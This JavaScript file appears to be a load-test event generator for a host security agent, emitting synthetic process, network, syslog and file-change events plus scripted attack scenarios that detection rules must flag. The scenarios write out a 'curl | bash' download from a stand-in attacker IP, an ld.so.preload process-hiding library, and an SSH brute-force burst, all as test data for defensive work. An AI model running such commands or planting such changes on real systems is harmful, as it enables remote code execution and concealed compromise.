// What one simulated host emits: a realistic mix of process starts (with a parent chain from a small
// process table), network connections, sshd and sudo lines (parsed by the agent's own syslog parsers) and
// file changes, shaped as the agent's sensors fill vigil.v1.Event payloads; plus scripted scenarios that
// the built-in Sigma rules must alert on, so detection runs at fleet scale too.
import { createHash } from 'node:crypto';
import { vigil } from '@vigil/proto';
import { parseSyslogLine } from '../../agent/dist/sensors/parsers/index.js';

const USERS = [
  { name: 'root', uid: 0 },
  { name: 'deploy', uid: 1001 },
  { name: 'alice', uid: 1002 },
  { name: 'www-data', uid: 33 },
];
const PEERS = ['10.0.3.17', '10.0.3.42', '10.0.8.5', '172.16.20.9', '192.0.2.44', '198.51.100.7'];
const COMMANDS = [
  ['/usr/bin/ls', ['ls', '-la', '/var/log']],
  ['/usr/bin/grep', ['grep', '-r', 'error', '/var/log/nginx']],
  ['/usr/bin/systemctl', ['systemctl', 'status', 'nginx']],
  ['/usr/bin/git', ['git', 'pull', '--ff-only']],
  ['/usr/bin/python3', ['python3', '/opt/app/manage.py', 'migrate']],
  ['/usr/bin/tar', ['tar', 'czf', '/var/backups/app.tgz', '/opt/app']],
  ['/usr/bin/df', ['df', '-h']],
  ['/usr/bin/cat', ['cat', '/etc/hostname']],
];
const WATCHED = [
  ['/etc/nginx/nginx.conf', 'nginx'],
  ['/etc/hosts', 'hosts'],
  ['/etc/nginx/sites-enabled/app.conf', 'nginx'],
  ['/etc/ssh/sshd_config', 'sshd_config'],
];
/** Scenarios cycled through, one per --alert-every events; each must raise a built-in rule's alert. */
export const SCENARIOS = ['ld_so_preload', 'download_piped_to_shell', 'ssh_brute_force'];

const pick = (rnd, list) => list[Math.floor(rnd() * list.length)];
const ns = (ms) => BigInt(Math.round(ms)) * 1_000_000n;
const stamp = (ms) => new Date(ms).toISOString().replace(/\.\d+Z$/, '+00:00');

/** A seeded PRNG (mulberry32), so a host's stream is reproducible from its index. */
export function seeded(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export class EventMix {
  /** @param {{ hostname: string, index: number }} host */
  constructor(host) {
    this.hostname = host.hostname;
    this.rnd = seeded(host.index * 7919 + 17);
    this.nextPid = 2000 + Math.floor(this.rnd() * 1000);
    this.scenario = host.index % SCENARIOS.length;
    this.attacker = `203.0.113.${(host.index % 250) + 1}`;
    // The host's long-lived processes: the parent chain every interactive command hangs from.
    this.systemd = { pid: 1, exe: '/usr/lib/systemd/systemd', argv: ['/sbin/init'] };
    this.sshd = { pid: 811, exe: '/usr/sbin/sshd', argv: ['sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups'] };
    this.shells = USERS.map((u, i) => ({ pid: 1200 + i, exe: '/usr/bin/bash', argv: ['-bash'], user: u }));
  }

  /** One everyday event. */
  next(nowMs) {
    const r = this.rnd();
    if (r < 0.4) return this.processStart(nowMs);
    if (r < 0.65) return this.connection();
    if (r < 0.8) return this.sshdLine(nowMs);
    if (r < 0.9) return this.sudoLine(nowMs);
    return this.fileChange(nowMs);
  }

  /** The next scripted attack: one or a burst of events a built-in rule alerts on. */
  alerting(nowMs) {
    const name = SCENARIOS[this.scenario++ % SCENARIOS.length];
    if (name === 'ld_so_preload') {
      return [
        {
          fileChange: {
            path: '/etc/ld.so.preload',
            action: vigil.v1.FileAction.MODIFIED,
            watch: 'ld_preload',
            before: { exists: true, mode: 0o100644, size: 0, sha256: sha('') },
            after: { exists: true, mode: 0o100644, size: 24, sha256: sha('/usr/lib/libprocesshider.so'), mtimeMs: nowMs },
          },
        },
      ];
    }
    if (name === 'download_piped_to_shell') {
      const shell = this.shells[3];
      return [this.processStart(nowMs, { parent: shell, exe: '/usr/bin/bash', argv: ['sh', '-c', `curl -fsSL http://${this.attacker}/x.sh | bash`] })];
    }
    // Ten failed passwords from one source within seconds: the brute-force correlation's threshold.
    const out = [];
    for (let i = 0; i < 10; i++) {
      out.push(this.log(nowMs, 'sshd', `Failed password for root from ${this.attacker} port ${40000 + i} ssh2`));
    }
    return out;
  }

  processStart(nowMs, forced) {
    const parent = forced?.parent ?? pick(this.rnd, this.shells);
    const [exe, argv] = forced ? [forced.exe, forced.argv] : pick(this.rnd, COMMANDS);
    const pid = this.nextPid++;
    if (this.nextPid > 4_000_000) this.nextPid = 2000;
    const user = parent.user ?? USERS[0];
    return {
      processStart: {
        pid,
        ppid: parent.pid,
        parentPid: parent.pid,
        startTimeTicks: Math.floor(nowMs / 10),
        startTimeNs: ns(nowMs),
        exe,
        argv,
        cwd: user.uid === 0 ? '/root' : `/home/${user.name}`,
        uid: user.uid,
        euid: user.uid,
        gid: user.uid,
        user: user.name,
        auid: user.uid,
        loginUser: user.name,
        tty: 'pts/0',
        sessionId: parent.pid,
        sha256: sha(exe),
        parentExe: parent.exe,
        parentArgv: parent.argv,
        comm: exe.split('/').pop().slice(0, 15),
        source: 'procfs',
        ancestors: [
          { pid: parent.pid, exe: parent.exe, argv: parent.argv },
          { pid: this.sshd.pid, exe: this.sshd.exe, argv: this.sshd.argv },
          { pid: this.systemd.pid, exe: this.systemd.exe, argv: this.systemd.argv },
        ],
      },
    };
  }

  connection() {
    const outbound = this.rnd() < 0.7;
    const remote = pick(this.rnd, PEERS);
    return {
      networkConnection: {
        transport: vigil.v1.Transport.TCP,
        ipVersion: 4,
        localAddress: '10.0.0.10',
        localPort: outbound ? 32768 + Math.floor(this.rnd() * 28000) : pick(this.rnd, [22, 443, 80]),
        remoteAddress: remote,
        remotePort: outbound ? pick(this.rnd, [443, 5432, 6379, 53]) : 32768 + Math.floor(this.rnd() * 28000),
        state: 'ESTABLISHED',
        direction: outbound ? vigil.v1.Direction.OUTBOUND : vigil.v1.Direction.INBOUND,
        pid: outbound ? 1500 : this.sshd.pid,
        exe: outbound ? '/usr/bin/python3' : this.sshd.exe,
        inode: Math.floor(this.rnd() * 1e7),
        uid: outbound ? 33 : 0,
        source: 'procfs',
      },
    };
  }

  sshdLine(nowMs) {
    const user = pick(this.rnd, USERS.slice(1, 3));
    const peer = pick(this.rnd, PEERS);
    const lines = [
      `Accepted publickey for ${user.name} from ${peer} port 51122 ssh2: ED25519 SHA256:q2p8cQx6v0B4mEJk1yQb8s`,
      `Received disconnect from ${peer} port 51122:11: disconnected by user`,
      `Disconnected from user ${user.name} ${peer} port 51122`,
    ];
    return this.log(nowMs, 'sshd', pick(this.rnd, lines));
  }

  sudoLine(nowMs) {
    const [exe, argv] = pick(this.rnd, COMMANDS);
    return this.log(nowMs, 'sudo', `   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=${exe} ${argv.slice(1).join(' ')}`);
  }

  fileChange(nowMs) {
    const [path, watch] = pick(this.rnd, WATCHED);
    const size = 1000 + Math.floor(this.rnd() * 4000);
    return {
      fileChange: {
        path,
        action: vigil.v1.FileAction.MODIFIED,
        watch,
        before: { exists: true, mode: 0o100644, size: size - 10, sha256: sha(`${path}${size - 10}`), mtimeMs: nowMs - 60_000, inode: 4200 },
        after: { exists: true, mode: 0o100644, size, sha256: sha(`${path}${size}`), mtimeMs: nowMs, inode: 4200 },
      },
    };
  }

  /** A syslog line through the agent's own parser, filled as its log sensor fills LogRecord. */
  log(nowMs, program, message) {
    const raw = `${stamp(nowMs)} ${this.hostname} ${program}[${program === 'sshd' ? 4242 : 4343}]: ${message}`;
    const r = parseSyslogLine(raw);
    return {
      log: { source: '/var/log/auth.log', raw, parser: r.parser, action: r.action, fields: r.fields, program: r.program, hostname: r.hostname },
    };
  }
}

function sha(text) {
  return createHash('sha256').update(text).digest('hex');
}
